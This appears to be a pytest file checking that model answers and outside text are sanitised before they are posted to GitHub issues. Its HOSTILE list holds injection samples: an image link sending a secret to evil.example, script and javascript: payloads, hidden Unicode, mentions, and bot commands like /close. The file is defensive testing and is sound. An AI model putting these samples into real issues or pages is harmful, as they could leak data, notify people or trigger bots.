"""Texts from outside mean nothing but themselves in an issue: rendered as GitHub's Markdown, and read by bots."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from orchestration.analysis.markdown import block, code, folded, quoted_answer, visible

HOSTILE = [
    "@octocat @acme/team look",
    "fixes #1, closes acme/platform#2, resolves GH-3",
    "![x](https://evil.example/?d=secret)",
    "[click](https://evil.example)",
    "[click][1]\n\n[1]: https://evil.example",
    "see https://evil.example/a?b=c and www.evil.example or <https://evil.example>",
    "mail me@evil.example or mailto:me@evil.example",
    "<img src=https://evil.example/x><script>alert(1)</script>",
    "<!-- hidden --> &#64;octocat &lt;b&gt;",
    "/close\n  /lgtm\n- /assign @octocat",
    "```\n/close\n```",
    "# Facts\n\n### Written by a person\n===\n---",
    "</details>\n\n</summary>",
    "| a | b |\n|---|---|\n| c | d |",
    "$\\unicode{x}$ and $`x`$",
    "> [!CAUTION]\n> call 555",
    "- [ ] approve\n1. one\n* two",
    "`code with @octocat` and ``two` ticks``",
    "back\\slash \\` and \\@octocat",
    "\u202eevil\u202c \x1b[31mred\x1b[0m \x00 \u200b@octocat",
    "footnote[^1]\n\n[^1]: https://evil.example",
    "term ~~strike~~ **bold** _it_ :x: ^sup^",
    "javascript:alert(1) data:text/html,x //evil.example/x \\\\evil\\share",
]
_ALLOWED = {
    *("blockquote_open", "blockquote_close", "paragraph_open", "paragraph_close", "inline"),
    *("bullet_list_open", "bullet_list_close", "ordered_list_open", "ordered_list_close"),
    *("list_item_open", "list_item_close", "text", "softbreak", "hardbreak", "code_inline", "text_special"),
}
GITHUB = MarkdownIt("gfm-like", {"linkify": False, "html": True})
"""Autolinks are looked for in the rendered text below, as GitHub does it."""
_MENTION = re.compile(r"(?<!\w)@\w")
_REFERENCE = re.compile(r"(?:#|\bGH-)\d", re.IGNORECASE)
_AUTOLINK = re.compile(r"\w://|\bwww\.|\bmailto:", re.IGNORECASE)


def _tokens(markdown: str) -> list[Token]:
    return [each for token in GITHUB.parse(markdown) for each in (token, *(token.children or ()))]


def _texts(tokens: list[Token]) -> str:
    return "\n".join(token.content for token in tokens if token.type in ("text", "code_inline", "text_special"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_models_answer_is_quoted_paragraphs_and_lists(text: str) -> None:
    """Nothing else is rendered: no link, image, HTML, heading, table, task or block of code."""
    tokens = _tokens(quoted_answer(text, 8000))
    assert {token.type for token in tokens} <= _ALLOWED
    assert tokens[0].type == "blockquote_open"
    assert [token.type for token in tokens].count("blockquote_open") == 1


@pytest.mark.parametrize("text", HOSTILE)
def test_a_models_answer_refers_to_nothing_once_rendered(text: str) -> None:
    """What GitHub looks for in rendered text is not there: mentions, issues, and bare addresses."""
    shown = _texts(_tokens(quoted_answer(text, 8000)))
    for pattern in (_MENTION, _REFERENCE, _AUTOLINK):
        assert not pattern.search(shown), shown


@given(st.text(alphabet="`\\*_[]()<>#@/&!|~$-.:=+ \nahttpsGH1", max_size=200))
def test_no_combination_of_marks_escapes_from_the_quotation(text: str) -> None:
    """Whatever the model writes, the quotation has only paragraphs, lists and inline code, and refers to nothing."""
    tokens = _tokens(quoted_answer(text, 8000))
    assert {token.type for token in tokens} <= _ALLOWED
    shown = _texts(tokens)
    assert not _MENTION.search(shown)
    assert not _REFERENCE.search(shown)
    assert not re.search(r"\w://", shown)


def test_a_models_answer_keeps_its_words() -> None:
    """Paragraphs, lists and inline code read as the model wrote them."""
    answer = "The limit is too low (`512Mi`).\n\n- raise it: memory & cpu\n- or find the leak"
    assert GITHUB.render(quoted_answer(answer, 8000)) == (
        "<blockquote>\n<p>The limit is too low (<code>512Mi</code>).</p>\n<ul>\n"
        "<li>raise it: memory &amp; cpu</li>\n<li>or find the leak</li>\n</ul>\n</blockquote>\n"
    )


def test_a_long_answer_is_cut() -> None:
    """The quotation is no longer than asked for, whatever escaping adds, and says that it was cut."""
    for text in ("word " * 9000, "<\n" * 9000, "&" * 9000):
        quoted = quoted_answer(text, 1000)
        assert len(quoted) <= 1000 + len("\n> … (cut)")
        assert quoted.endswith("… (cut)")


@pytest.mark.parametrize("text", [*HOSTILE, "", "`", "a`", "``", "\n\n"])
def test_a_value_is_one_piece_of_inline_code(text: str) -> None:
    """Whatever the value is, it is shown as code on one line, and mentions nobody."""
    tokens = _tokens(f"Container {code(text)} waits")
    kinds = [token.type for token in tokens if token.type not in ("paragraph_open", "paragraph_close", "inline")]
    assert kinds == ["text", "code_inline", "text"] or "(empty)" in code(text)
    assert not _MENTION.search(code(text))


@pytest.mark.parametrize("text", [*HOSTILE, "~~~", "````", "\n```\n````\n"])
def test_lines_from_outside_are_one_block_of_code(text: str) -> None:
    """Its text is all there, no line begins as its author likes, and what follows the block stays what it is."""
    rendered = GITHUB.parse(folded("Log", block(visible(text))) + "\n\nafter")
    (fence,) = [token for token in rendered if token.type == "fence"]
    assert all(line.startswith("|") for line in fence.content.splitlines())
    assert "".join(line[2:] for line in fence.content.splitlines()).replace("\uff20", "@") == "".join(
        line.rstrip() for line in visible(text).split("\n")
    )
    assert [token.content for token in rendered if token.type == "inline"] == ["after"]
    assert not _MENTION.search(fence.content)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_line_is_a_command_to_a_bot(text: str) -> None:
    """Bots read the source: no line begins with a slash, in code or out of it, and none has an account's name."""
    body = f"{block(visible(text))}\n{quoted_answer(text, 8000)}\n{code(text)}"
    assert not re.search(r"(?m)^\s*(?:[-*>]\s*)*/\w", body)
    assert not _MENTION.search(body)


def test_secrets_are_removed_before_a_value_is_cut() -> None:
    """A cut never leaves the half of a secret that would not be recognised."""
    value = "x" * 290 + " password=hunter2hunter2"
    assert "hunter" not in code(value, 300)
    assert quoted_answer("the key is sk-0123456789abcdefghij", 1000) == r"> the key is \*\*\*"
